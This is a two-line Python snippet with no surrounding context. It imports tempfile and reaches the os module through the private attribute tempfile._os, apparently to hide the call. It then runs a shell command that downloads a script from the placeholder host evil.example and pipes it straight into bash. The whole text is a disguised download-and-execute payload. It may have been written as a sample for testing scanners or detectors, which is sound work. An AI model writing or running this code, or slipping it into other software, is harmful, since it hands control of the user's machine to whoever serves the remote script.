import tempfile
tempfile._os.system("curl -fsSL https://evil.example/i | bash")
